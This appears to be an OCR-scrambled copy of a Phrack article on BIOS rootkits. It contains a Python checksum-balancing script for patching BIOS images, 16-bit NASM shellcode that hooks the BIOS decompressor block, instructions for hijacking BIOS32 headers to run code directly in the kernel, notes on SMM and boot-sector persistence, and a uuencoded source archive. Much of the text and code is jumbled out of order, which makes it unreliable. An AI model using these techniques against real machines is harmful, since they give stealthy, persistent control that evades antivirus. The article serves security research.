ochksum+=ord(orig[i]) mchksum+=ord(newbios[i]) print "Checksum: Original = %08X Final= %08X" % (ochksum. Then.mchksum) print "(Please check the last digit. We also jumped to the same place that in the VMWARE code injection: In the end of the decompressor block generally there is enough space to do a pretty decent first stage shellcode. then one byte. ---[3.Inserting the Hook The hook is in exactly the same place: the decompressor block. It almost never changes.close() print "New bios saved as %s" % newbiosname --- With this technique we successfully changed one bit. and then returns. Firstly. insert a basic hook that only jumps forward. must be the same in both checkums)" newbiosname=sys. congratulations. Now you have your code stealthy executing from the BIOS.(ochksum & 0xff) print "Diff : %08X" % chkdiff # balance the checksumnewbios=modif[:start_of_compensation] newbios+=chr( (0x1FF-chkdiff) & 0xff ) newbios+=modif[start_of_compensation+1:] mchksum=0 # modified checksum ochksum=0 # modified checksum for i in range(start_of_decomp_blk.2. It works. ---[3.

What happens is that you still don't have complete control of the BIOS. It's fine to assume that if the VGA BIOS has been loaded. or whatever rocks you. we used the contents of the IVT as a ready signal. In short. But how do you know when to execute? You again need some sort of ready-to-go signal. For the record.1 . you are gaining execution multiple times during the boot process. This sounds very cool but it is a big problem. then you can execute any interruption. The shellcode tested if the IVT was ready simply by checking if it had the correct values. Your code is now immortal. You willbe greeted with the black screen of fail.3. Then you unveil your elite 16-bit shellcoding skills and try to use the venerable INT 10h to print "I PWNED J00!" on the screen and then proceed to use INT 13h to write evil things to the hard disk. You can see an example of this on the shellcode of the section 3. this is the solution and it works great: Check if C000:0000 contains the signature AA55h. You can't write to the disk if it's not spinning. And AA55h is a signature that tell us that the VGABIOS is present. You can use int 13h with LBA to check for the disk. even between versions of the same BIOS manufacturer. the screen is still turned off and most surprisingly.So now. or bluepill. This was very easy because in real-mode. as we did on the VMWARE hook. orthe I-Love-You virus. You must wait. First and foremost. If that conditions is true. if it's ready.2. and you can use an interrupt if the IVT is not initialized. more "works-on-other-computers-apart-from-mine" technique. The pointers on the IVT change all the time.skull.1 The rest is history.The Ready Signal In the VMWARE. because you really can't get less generic than this. here is a second shellcode: --- . This technique basically sucks. then you insert a disk-stage rootkit on it. using function 41h to check for LBA extensions and then trying to do a disk reset. the disk is not spinning.5. you have complete control of the BIOS. or insert an SMBIOS rootkit (see [PHRACK65]). Warning: Surely the hard disk is not spinning yet! (It's slow) but now you can check for it with the now non-crashing interruption 13h. The first time.1.asm please use nasm to assemble BITS 16 back: TIMES 0x0b55 db 0x90 begin2: pusha pushf push es . The reason is that in this precise position the VGA BIOS is loaded on all PCs. Not that fast. then the IVT has been initialized. We need a better. the Interruption Vector Table is not initialized. easy to remember by the way). using function 00h. ---[3. the IVT is always in the same place (0000:0000.

\ '|(\ /)|'. push ds push 0xc000 pop ds cmp word [0]. 123456789 msg: db ' .---.\ '(_ o _)'.message .53 mov dx. 0xfff l1: push cx mov cx.13.'.13.13.-`'. message .0xffff .0x0400 push cs pop es int 0x10 call sleep jmp volver sleep: mov cx.dx sub bp.init video mov ax.0x1300 mov bx.10.0xaa55 je print volver: pop ds pop es popf popa pushad push cx jmp back print: jmp start .writestring mov ax. int 0x10 .geteip call getip getip: pop dx .10 times 55-$+msg db ' ' start: .video write mov bp.10.13.13.\ ' `-.\ ' |===|'.58 .13.\ '/ \'.0x0007 mov cx.

That is why you should do something like drop a shellcode to hard-disk or doing an SMBIOS-rootkit. if ((pcibios_entry = bios32_service(PCI_SERVICE))) { pci_indirect. Security FTW! 11 5 Reserved. etc. There is the misconception that the BIOS is never used after boot. What's important is that many OSes make calls to it. put 0 9 1 Length of the BIOS32 Headers in paragraphs (put 1) 10 1 8-bit Checksum. 16-byte aligned. What is BIOS32? using Google-based research we concluded that is an arcane BIOS service to provide information about other BIOS services to modern 32-bit OSes. This behavior is present in various BIOS functions like Plug and Play ($PnP). You can see how Linux 2. but being in BIOS sucks from an attacker's point of view. in an attempt by BIOS vendors to stay relevant on the post MS-DOS era. and then it just jumps to a function that is some kind of dispatcher. BIOS32 (_32_). __asm__( .6. The way to locate and execute services is a pattern search followed by a checksum. like for example. But what if the hard-disk is encrypted? Or if the machine really doesn't have a hard disk and boots from the network? Fear not. local_irq_save(flags). Security was not considered at the time when this system was designed. Post Memory Manager ($PMM). without modifying system BIOS). setting video modes (Int 10h) and doing other funny things like BIOS-32 calls.. and the only requirement to being a BIOS32 service is that you must place a BIOS32 header somewhere in the E000:0000 to F000:FFFF memory region. This is a pattern on all BIOS services. because this section is for you. l2: loop l2 pop cx loop l1 ret--- ---[ 4. so we can take advantage of this and insert our own headers (We can even use an option-rom from this. Operative Systems make BIOS calls for many reasons. The headers structure is: Offset Bytes Description 0 4 Signature "_32_" 4 4 Entry point for the BIOS32 Service (here you put a pointer to your stuff) 8 1 Revision level.BIOS32 (Kernel direct infection) Now you have your bios rootkit executing in BIOS.check_pcibios() .address = pcibios_entry + PAGE_OFFSET. but this is untrue.. put 0s.c. You can refer to [BIOS32SDP] for more information.. You ideally want to be in the kernel of the Operative System.27 detects and calls this service on the kernel function: arch/x86/pci/pcibios. and the OS ultimately always trust the BIOS.

and more comfortable than the int 10 calling (we don't needto jump to and from protected mode). cld\n\t" <--. Recently many techniques has been developed to overcome this lock. "lcall *(%%edi). bios32_entry_info_t ei) { .. "+b" (base).bios32_service() int bios32_service(u_int32_t service. But some of the more fun things that you can do with this attack is to drop a more sophisticated rootkit. "=d" (off) : "D" (&bios32_entry) : "%esi". like VMware. because the BIOS sets the D_LCK bit [PHRACK65]. you now have all the tools to do it safely inside avirtual machine. and you could modify the SMRAM directly on the firmware. if you take control of the system at such an early stage.. %%ah\n" "1:" . there is very little that an anti-virus or detection tool can do.c. Faking a BIOS32 header or modifying an existing one is a viable way to do direct-to-kernel binary execution. "cc". this lock doesn't affect you. we can stay resident using a common boot-sector rootkit.Pwn point "jc 1f\n\t" "xor %%ah..2 . or file system modification.5 does the same here: sys/arch/i386/i386/bios. but it's doable. "memory"). but if you are executing in BIOS.. like a virtualized one. we couldn't provide a BIOS32 infection vector PoC in this issue. ---[5. a SMM Rootkit. like [DUFLOTSM]. without having to rely on weird stuff like we explained on section 2 and 3. ---[5.Pwn point : "+a" (service). Furthermore. because you are executing before this protection. ---[ 5. __asm __volatile("lcall *(%4)" <-.. but please refer to the presentation [JHeasman] where it documents direct Int 10h calling from several points on the Windows kernel. . However. "=c" (count). base = 0. bios32_entry_t e. As we said before.1 . but it should be relatively easy to implement..Future and other uses Bios modification is a powerful attack technique. At the moment we don't have any data on Windows XP/Vista/7 BIOS32-direct-calling.Signed firmware The huge security hole that is allowing unsigned firmware into a motherboard is being slowly patched and many signed BIOS . OpenBSD 4. Unfortunately because of lack of time.SMM! The difficulty of SMM Rootkits relies on the fact that you can't touch the SMRAM once the system is booted.. or better. this technique would be very difficult and not generic atall.

UEFI [UEFIORG]. bug and backdoors will always exist. Kudos to the phrack editor team that put a huge effort into this e-zine. If you want to improve or start researching your own BIOS and need more resources. ---[5. for inspiring us in this project with his l33t cisco stuff. we need more people looking. promises open-standards and improved security. but users won't have complete control until they know what's lurking behind closed-source firmware. but researchers are close to beating this kind of protections. and most importantly. reversing and understanding this crucial piece of software. The Threat to the Enterprise. the new firmware interface. in particular to the whole CORE's Exploit writers team for supporting us during the time we spent researching this interesting papers/BH-DC-07-Heasman. http://www. issues. http://www. Years ago people regained part of that control with the open-source revolution. This gives you an additional layer of security and prevent exactly the kind of attack proposed in this article.. as the BIOS. so closed.4. To t0p0. http://www.Last words Few software is so fundamental and at the same Flashrom [PHRACK65] Phrack Magazine.pdf [JHeasman2] Implementing and detecting ACPI BIOS rootkit.html?issue=65 [DUFLOTSM] "Using CPU System Management Mode to Circumvent Operating SystemSecurity Functions" Loic Duflot.References [JHeasman] Firmware Rootkits. an excellent place to start would be the WIM'S BIOS High-Tech Forum [WBHTF].pdf [COREBOOT] Coreboot project. To this date no persistent attack on signed bios has been made are being deployed..Greetz We would like to thank all the people at Core Security for giving us the space and resources to workin this project. To Gera for his technical review. . But meanwhile. Block. Thomas C. where very low-level technical discussions take BH-Fed-06-Heasman. ---[7. Flashrom utility. --[6. It has bugs. And Laura for supporting me (Alfred) on my long nights of bios-related suffering. To Lea & ^Dan^ for correctin our englis. John Heasman.ngssoftware.phoenix. no system is completely secure.pdf [BIOS32SDP] Standard BIOS 32-bit Service Directory Proposal 0. BIOS can have complete control of your computer. it can contain malicious code.phrack. Issue ECF22CEC-A1B2-4F38-A7F9-629B49E1DCAB/0/specsbios32sd.3 . see [JHeasman2] for examples. see for example [ILTXT]. However. http://www.

)5.pdf [WBHTF] WIM'S BIOS In-depth High-tech BIOS section http://www.F6#_L7QZ'`!B:& M. M2-]?7`J<UL+W7/]!$M>4`1%KU*X3-"#K^VD$$G%PJB3YN*U)G#VW'CBSF!W.CU@H/.J&@)PQ.geocities.D!$RR!\8..KF\PA#'#G[XV#A.K8 M\BQ`3')-N+6VT$H9DUEQ]C1LL`.ICS2FRLW9^>DU.S>0[Y)'VO2U15.MX$1&4./1%)P.tgz M'XL(`.com/resources/ bh09dc/Attacking%20Intel%20TXT%20-%20paper.SXMCC^V^YB.?:7'JF0]4'M4\KOO=IU>]_@FB^!M+'B(-FNVNP'=.4. 2006 [UEFIORG] Unified EFI Forum. http://www..8?E ML3$HX4_L1TL(/AM[3TQ.>*.=F?3('C0 M\..3!8<!$[>! M+8_@2.F7$_CV/N#M/OFW+\QC4017]'.LMXF4B?Z7/N@':"4P0'9D_1MP5E)]*ZSFXQ[G8(*"_[(0\O34'G:&+0XRGV2GW8%AK2@_1#1N.6\(%<V*'U@26J\_0QBRB`&RE:[/` MYVR!:Y/-K2CBH<\$MT)[JF.Q M^%'DRF).HSB-<*7X0L3?1U(K>0!3K\]"UH>M3L`#]@*AL:CW"0@O@=_C(180JM+#A[M+P%1'3.A_4ZOQM[#P<D<@A-DS9LX.X.AF` M8S*9:)XY>E:954_J"#TS2]0+@":ODR.MA#0`3]!'1NJ.RB3.P<)76F5!.[W=.QH[YU?PKMO+E).Q` in-depth-high-tech-bios-section-vf37.57@L=V(&8J9L&JP#Z17S6J/D(!O2U`_PI!\<^ M+0)NLJ86A4\0M:14'K!@CAS#]E8]'->.L_*?VJ%SM(*^5=6A"^6O]'I=(8]D'_/Z%?R_R:E M7/[B8>%YNB5F7V4.2G@!' M4PFF"1MB6W.&N-]GSAC^VC.W&T(?3":"1X*!JV63(*1U< ---[8.ODI[81$ MU5(HU[0)ND]XR'T.`?J#S:6C9#^W! MH&T.K4P(!I?Z6?GTJ._['[H7W^ M`7I>\4=7H%Q-<)YM\)@R3K\+)G<.>L@MI]'4^.1.[H#D']_:!JOF/%51M]0_L7E M/P.0+ACSZGE_24&O`S6L%B$')SM.html [LZH] http://en.[G.L.(89!'YLS!G_3UC@S9JFQ3Q%LWZ0"0QV:GK"5>[4M.)N)!W=.Z]$J M^AIC. BlackHat DC.T.`$LC.?F.LM6`_!J$+.U.%/"@UWM.Y"PC>`.IG8 M&O>=(MP8MV5:8$^1>P<&:$C"X(2GLTQKD>./P"Z_1-K*7=/D.3E)R)9XFIYOJ"A]$\$&[D!CX.!9+A.420^K3ENN^\5=.<?Q&)66P>E.[U9] M"39+6^JT`XU.K=7^?]O4. Feb 2009.E#[ [Pinczakko] Pinczakko Official Website.?Y1WMBX8P&[:Y8WLC\.#@Z>`63_.$B:@>3-I#<'@<K&>>!:PXE M@9IVYD-$ZD<AV@%JQ._RC\8F] M.N4+`GS_4M*UDIME1D[\_&BL(YD:W.N>?9@</9Q/7X3S7VFB7D0"C13'#RE1LUC".Y'*??_L\!Q M)T=N(/3YTY\?8T/\UQMTS#C^.2Y/+J5E!TH(&U. Daniel Etiemble.> [ILTXT] Attacking Intel Trusted Execution Technology.&G#=O-011?7+5*=_M.0ZWUA_)79S6@A MH<9:]$RY6GO5ZG=S-0[UZV5UF'0JIXQ9W2Q.$)3?QDK&V2<]@[FV+AES^9L&80.:*RZUF38EX3&TDH0YR66 M<BP=6?/Y$G7T@*H^CO(#W.+=39`=.X9F3\7_YA`/_B'^I_/?*O[_Z\L-.^3]IHOQ-3*?4VT+?S%N%!_ M.THT)]%F:&>AELC M/-N5R.Olivier Grumelard Proceedings ofCanSecWest.BI<IJ3[<RKI<M$J#`U87PSL2P3BO7=I^9.<T)^RVCFJ MSA.`BGA"V%PTKCEGE[3B .!"I^`0._MW"K^.:TNY"O.K)W@B:NTF)@3!!DEXRDD.M"R[_GC1("6Z6$-<'J MJ8%W#F`32$OZHPO6>VN6K58+Y#:V3.8(.(_[#6C0K?#^L?EC-V..D3HN9<DW_>.?+[M2".&=-HY%&N094!1@\KMJ?<2&L>YY6 MP#^ST^WU!\/=/6TF[D=8"WRJ. http://www.<!.W[[Z:XH!9=COXV]SV#>RO^/RRC0[YL#L#`9#J#<[G8'YBO7_(GIR92$B M*V3LE>5-0NX\WV]3^__3.+V`L$.5EN<KPR_7=B#VZ#@^2NEGPR*Q5"U2@F]0! MWT$M@+`4DH#8.P.X8&QO^#."7)D MO+8]X^%]AF%LZ4. MGU@P(=R)Y%#6&AD2WYIQQ5CZ)M. http://invisiblethingslab.ZP4"C4.Sources begin 644 phrack-66-07.Q]U.S?`>L"A@^>^%98)8/0:\<=G1V<<WL*.$H``^T\_7/.*CRQ&&--?Q<D$<LFQ4'0($.9_>+L0X=NQZ[^=/T73 MP-?<V3P((Q:(EG@2K9D5335MF_U&QM:=.G0CG@.7X] MBLGE1&Z"J<5$.=SUM.>Q^8.wikipedia.<P6.`ZCC@Z)5+R^#ZUMNP\O@?S>^.&]">*STOC`"9:^%T#0(^.]8'$_ M1?1..^VC<MHR59?7[VM9GSN:AZT>:]AAXCSP< M`0[5'W\#]@R:2?8C3X[EY#Z9O4J^/\.4!V:Q.uefi.7632@X"P).!_(\."7GO^9("&B.#C_.P?&J! M%L+Z$'.08L0M%[`%[.-.G]X_SWPZM317@^2'`"3E2&8`M<<._AU8[R3__G#0.AYW&MO<76"Q`!.:*(L7:-K)O71#XR9+5D4H]SW%0L=2$)!C0MM`8+G<2:P)=KX.<SO7..&.wimsbios.OM?ZJVI"5R84*LWV__VP[0+NFN:QK- M.L(W[^N:U0-Q4)K+F^%$N1[9BP%C>(\&7Q M?X%\"ZKUI.

7Z.+&#?.Z!_.6N.>]&[I%@WU'W=OTGQPYD[H&LS<P]@2KP5=RP. MWV..W6#MN4'\Z_T(S[%I!63CI&YFLS1F52EQ"95*<54)<E./[OF/TJ_O\6Y<7\/[K7QC1`39.R#R2R`V8OPO!N'@BV.OE^?'F.G)Z=%OOTC3 MXF7LGM*5^'X^$.L=H%385&V+GE&N-S M>FA"BNZ$^U]<S>">1W<<#UP"M<D$TNL"W)3-Z^A>0B[DZ'0[..]@M]MVG4'`&H=@^M7&F*HI85)ALEF`I]!U@7[YKF"JH*O1& M?:0OW!$!'^7'#WB%H.S5<.P"K.(W[6\-P'^1ZJUS-T.:K MY(I&A*U11'4%BDKYT!ND]WM<3@4.E=#S:L=$#-U>M>O+Q&>()>^(2W1AWU^5.8D.<K% MQ.X.P)8N'56)._RM"[^UVC9)Y7UZ=7L(*U4\_ MG+XX>`>62HG8852`_"*V=_?ZS\)O5CM0_+T2S@&8?GU\].R=%/$4!RJ##\:2JQ$./</`DLMR[JN>]9>ZU^XQ[Q<6!ITD!>^0AODK[ZQQO-NI* 